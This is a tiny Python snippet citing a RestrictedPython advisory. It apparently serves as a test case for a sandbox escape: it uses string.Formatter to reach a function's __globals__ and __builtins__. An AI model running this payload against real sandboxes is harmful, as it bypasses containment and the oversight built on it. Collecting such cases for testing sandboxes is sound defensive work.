# Source: RestrictedPython CVE-2023-41039 / https://github.com/advisories/GHSA-xjw2-6jm9-rf67 (string.Formatter)
import string
print(string.Formatter().format("{0.__globals__[__builtins__]}", get_weather))
